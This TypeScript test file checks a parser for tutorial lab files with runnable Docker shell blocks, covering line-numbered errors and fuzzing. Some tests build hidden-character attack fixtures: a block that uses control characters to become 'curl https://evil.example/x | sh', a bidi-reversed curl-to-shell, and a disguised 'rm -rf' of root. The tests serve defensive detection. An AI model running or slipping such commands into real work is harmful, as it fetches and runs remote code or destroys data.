// The lab parser: good labs parse, every bundled example parses, problems name their line, garbage never throws.
import { describe, expect, it } from 'vitest';
import { parseLab, classifyFence } from './parse-lab.ts';
import { EXAMPLE_LABS } from './examples/index.ts';
import type { LabParseResult, LabProblem } from './lab-format.ts';
import { prng as random } from '../../worker/testing/prng.ts';

function problems(result: LabParseResult): LabProblem[] {
  if (result.ok) throw new Error('expected the lab to be rejected');
  return result.problems;
}

const GOOD = `---
title: A lab
description: Two steps.
images: [busybox, tabdock/httpd:latest]
setup:
  - docker rm -f x || true
files:
  - path: /root/lab/Dockerfile
    content: |
      FROM busybox
    mode: "0644"
---
Intro text.

## First *step*

Run this:

\`\`\`sh run
docker run busybox echo hi
\`\`\`

Not runnable:

\`\`\`sh
echo shown only
\`\`\`

\`\`\`verify
docker ps -a --format '{{.Image}}' | grep -q busybox
\`\`\`

## Second step

1. In a list:

   \`\`\`bash {run}
   docker ps
   \`\`\`
`;

describe('parseLab', () => {
  it('parses frontmatter, intro, steps, blocks and verify', () => {
    const result = parseLab(GOOD);
    expect(result.ok).toBe(true);
    if (!result.ok) return;
    const { lab } = result;
    expect(lab.title).toBe('A lab');
    expect(lab.images).toEqual(['busybox', 'tabdock/httpd:latest']);
    expect(lab.setup).toEqual(['docker rm -f x || true']);
    expect(lab.files).toEqual([{ path: '/root/lab/Dockerfile', content: 'FROM busybox\n', mode: '0644' }]);
    expect(lab.verifyTimeoutMs).toBe(10_000);
    expect(lab.intro).toBe('Intro text.');
    expect(lab.steps.map((step) => step.title)).toEqual(['First *step*', 'Second step']);
    const [first, second] = lab.steps;
    expect(first?.line).toBe(15);
    expect(first?.verify).toBe("docker ps -a --format '{{.Image}}' | grep -q busybox");
    expect(first?.markdown).not.toContain('verify');
    expect(first?.blocks).toEqual([
      { language: 'sh', code: 'docker run busybox echo hi', runnable: true, line: 19 },
      { language: 'sh', code: 'echo shown only', runnable: false, line: 25 },
    ]);
    expect(second?.verify).toBeNull();
    expect(second?.blocks).toEqual([{ language: 'bash', code: 'docker ps', runnable: true, line: 37 }]);
  });

  it('accepts CRLF line ends and a byte-order mark', () => {
    const result = parseLab('\uFEFF' + GOOD.replace(/\n/g, '\r\n'));
    expect(result.ok).toBe(true);
  });

  it.each(EXAMPLE_LABS.map((example) => [example.id, example.source] as const))('bundled example %s parses', (_id, source) => {
    const result = parseLab(source);
    if (!result.ok) throw new Error(JSON.stringify(result.problems));
    expect(result.lab.steps.length).toBeGreaterThanOrEqual(3);
    expect(result.lab.steps.some((step) => step.blocks.some((block) => block.runnable))).toBe(true);
    // Every example checks most of its steps, and only uses images available offline in the guest.
    expect(result.lab.steps.filter((step) => step.verify !== null).length).toBeGreaterThanOrEqual(3);
    for (const image of result.lab.images) expect(['busybox', 'tabdock/httpd']).toContain(image);
  });

  it('names the line of a YAML syntax error', () => {
    const [problem] = problems(parseLab('---\ntitle: ok\nimages: [busybox\n---\n## a\n'));
    expect(problem?.code).toBe('yaml-syntax');
    expect(problem?.line).toBeGreaterThanOrEqual(3);
  });

  it('names the line of a schema error deep in the frontmatter', () => {
    const source = '---\ntitle: T\nfiles:\n  - path: /a\n    content: x\n  - path: relative/path\n    content: y\n    mode: 755\n---\n## s\n';
    const found = problems(parseLab(source));
    expect(found).toEqual([
      expect.objectContaining({ code: 'schema', line: 6, message: expect.stringContaining('files[1].path') }),
      expect.objectContaining({ code: 'schema', line: 8, message: expect.stringContaining('files[1].mode') }),
    ]);
  });

  it('names the line of an unknown key and lists the allowed ones', () => {
    const [problem] = problems(parseLab('---\ntitle: T\n\nimagez: [busybox]\n---\n## s\n'));
    expect(problem).toMatchObject({ code: 'schema', line: 4 });
    expect(problem?.message).toContain('"imagez"');
    expect(problem?.message).toContain('images');
  });

  it('points a missing title at the frontmatter mapping', () => {
    const [problem] = problems(parseLab('---\ndescription: no title\n---\n## s\n'));
    expect(problem).toMatchObject({ code: 'schema', line: 2 });
    expect(problem?.message).toContain('title');
  });

  it('reports a wrong type on its line', () => {
    const [problem] = problems(parseLab('---\ntitle: T\nverifyTimeoutMs: soon\n---\n## s\n'));
    expect(problem).toMatchObject({ code: 'schema', line: 3 });
  });

  it('rejects missing or unclosed frontmatter, no steps, and duplicate verify blocks, with lines', () => {
    expect(problems(parseLab('# Just markdown\n## step\n'))[0]).toMatchObject({ code: 'no-frontmatter', line: 1 });
    expect(problems(parseLab('---\ntitle: T\n## step\n'))[0]).toMatchObject({ code: 'frontmatter-unclosed', line: 1 });
    expect(problems(parseLab('---\ntitle: T\n---\nonly an intro\n'))[0]).toMatchObject({ code: 'no-steps' });
    const duplicate = problems(parseLab('---\ntitle: T\n---\n## s\n```verify\ntrue\n```\n\n```verify\nfalse\n```\n'));
    expect(duplicate[0]).toMatchObject({ code: 'duplicate-verify', line: 9 });
    expect(duplicate[0]?.message).toContain('line 5');
  });

  it('rejects verify blocks that would be ignored: before the first step, or nested in a list', () => {
    expect(problems(parseLab('---\ntitle: T\n---\n```verify\ntrue\n```\n## s\n'))[0]).toMatchObject({ code: 'misplaced-verify', line: 4 });
    expect(problems(parseLab('---\ntitle: T\n---\n## s\n\n1. do it\n\n   ```verify\n   true\n   ```\n'))[0]).toMatchObject({
      code: 'misplaced-verify',
      line: 8,
    });
  });

  it('rejects empty input, non-strings and oversized labs', () => {
    expect(problems(parseLab(''))[0]?.code).toBe('empty');
    expect(problems(parseLab(42))[0]?.code).toBe('empty');
    expect(problems(parseLab(`---\ntitle: T\n---\n## s\n${'x'.repeat(300_000)}`))[0]?.code).toBe('too-large');
  });

  it('classifies fences', () => {
    expect(classifyFence('sh run')).toEqual({ kind: 'code', language: 'sh', runnable: true });
    expect(classifyFence('bash {run}')).toEqual({ kind: 'code', language: 'bash', runnable: true });
    expect(classifyFence('python run')).toEqual({ kind: 'code', language: 'python', runnable: false });
    expect(classifyFence('sh')).toEqual({ kind: 'code', language: 'sh', runnable: false });
    expect(classifyFence('verify')).toEqual({ kind: 'verify' });
    expect(classifyFence(undefined)).toEqual({ kind: 'code', language: '', runnable: false });
  });
});

/** A lab whose first step runs `block` (a Run block) and checks with `verify`. */
function labWith(block: string, verify = 'true', frontmatter = ''): string {
  return `---\ntitle: T\n${frontmatter}---\n## s\n\n\`\`\`sh run\n${block}\n\`\`\`\n\n\`\`\`verify\n${verify}\n\`\`\`\n`;
}

describe('parseLab and hidden characters (issue #24)', () => {
  it('refuses a Run block that shows `echo "curl ... | sh"` but edits itself with Ctrl-A/D/E/H into the curl', () => {
    // Ctrl-A (start of line), Ctrl-D x6 (delete `echo "`), Ctrl-E (end), Ctrl-H (delete the closing quote).
    const block = `echo "curl https://evil.example/x | sh"\u0001${'\u0004'.repeat(6)}\u0005\u0008`;
    const found = problems(parseLab(labWith(block)));
    expect(found[0]).toMatchObject({ code: 'hidden-character', line: 7, column: 40 });
    expect(found[0]?.message).toContain('U+0001 (Ctrl-A)');
    expect(found[0]?.message).toContain('what runs would not be what is shown');
    // One problem per character, each on its line and column.
    expect(found.map((problem) => problem.column)).toEqual([40, 41, 42, 43, 44, 45, 46, 47, 48]);
  });

  it('refuses control characters anywhere: prose, a verify command, the frontmatter, DEL and C1 too', () => {
    expect(problems(parseLab(labWith('ls', 'true').replace('## s', '## s\n\nsee \u001b[8mhidden')))[0]).toMatchObject({
      code: 'hidden-character',
      line: 6,
      message: expect.stringContaining('U+001B (Escape)'),
    });
    expect(problems(parseLab(labWith('ls', 'test -f /tmp/x\u007f')))[0]).toMatchObject({ code: 'hidden-character', line: 11 });
    expect(problems(parseLab(labWith('ls\u009b', 'true')))[0]).toMatchObject({ code: 'hidden-character', line: 7, column: 3 });
    // A YAML escape makes the control character without writing it: the setup command is refused on its line.
    const setup = problems(parseLab(labWith('ls', 'true', 'setup:\n  - "echo hi\\x01"\n')));
    expect(setup[0]).toMatchObject({ code: 'schema', line: 4, message: expect.stringContaining('setup[0]: holds the invisible character U+0001') });
  });

  it('refuses bidi overrides anywhere, and zero-width or other invisible characters in code and checks', () => {
    const override = problems(parseLab(labWith('echo safe \u202Ehs | lruc\u202C')));
    expect(override[0]).toMatchObject({ code: 'hidden-character', line: 7, column: 11, message: expect.stringContaining('right-to-left override') });
    const zeroWidth = problems(parseLab(labWith('ls', 'grep -q x /tmp/a\u200b')));
    expect(zeroWidth).toEqual([expect.objectContaining({ code: 'hidden-character', line: 11, message: expect.stringContaining('This `verify` command holds the invisible character U+200B (zero width space)') })]);
    // Inside a list, in a block that is only shown (readers copy those), on the block's second line.
    const nested = '---\ntitle: T\n---\n## s\n\n1. Then:\n\n   ```sh\n   ls\n   rm -rf /tmp/lab\u2066 /\u2069\n   ```\n';
    expect(problems(parseLab(nested))[0]).toMatchObject({ code: 'hidden-character', line: 10 });
    const tag = problems(parseLab(labWith('echo hi\u{E0041}')));
    expect(tag[0]).toMatchObject({ code: 'hidden-character', line: 7, message: expect.stringContaining('U+E0041') });
    const path = problems(parseLab(labWith('ls', 'true', 'files:\n  - path: "/root/a\\u200db"\n    content: x\n')));
    expect(path[0]).toMatchObject({ code: 'schema', line: 4, message: expect.stringContaining('files[0].path: holds the invisible character U+200D') });
  });

  it('keeps tabs, emoji and right-to-left prose', () => {
    const prose = '---\ntitle: T\n---\nHi \u{1F469}\u200D\u{1F4BB}, \u05E9\u05DC\u05D5\u05DD\u200F.\n\n## s\n\n```sh run\nprintf "a\tb ❤️\\n"\n```\n';
    expect(parseLab(prose).ok).toBe(true);
  });
});

const FRAGMENTS = ['---', '\n', 'title: ', 'x', ':', '[', ']', '{', '}', '- ', '  ', '## ', '```', 'sh run', 'verify', '|', '&a', '*a', '!!binary', '"', "'", '#', '\t', '\u0000', '😀', 'files:', 'path: /a', 'mode: "0755"', '<script>', '...'];

describe('parseLab fuzz', () => {
  it('never throws on generated garbage, and every problem has a code and message', () => {
    for (let seed = 1; seed <= 400; seed += 1) {
      const next = random(seed);
      const length = Math.floor(next() * 60);
      let text = seed % 2 === 0 ? '---\n' : '';
      for (let index = 0; index < length; index += 1) text += FRAGMENTS[Math.floor(next() * FRAGMENTS.length)];
      const result = parseLab(text);
      if (!result.ok) {
        for (const problem of result.problems) {
          expect(problem.code, `seed ${seed}`).toBeTruthy();
          expect(problem.message.length, `seed ${seed}`).toBeGreaterThan(10);
        }
      }
    }
  });

  it('survives mutations of a good lab', () => {
    for (let seed = 1; seed <= 300; seed += 1) {
      const next = random(seed);
      const chars = GOOD.split('');
      for (let edits = 0; edits < 5; edits += 1) {
        const at = Math.floor(next() * chars.length);
        chars.splice(at, Math.floor(next() * 3), FRAGMENTS[Math.floor(next() * FRAGMENTS.length)] ?? '');
      }
      expect(() => parseLab(chars.join('')), `seed ${seed}`).not.toThrow();
    }
  });
});
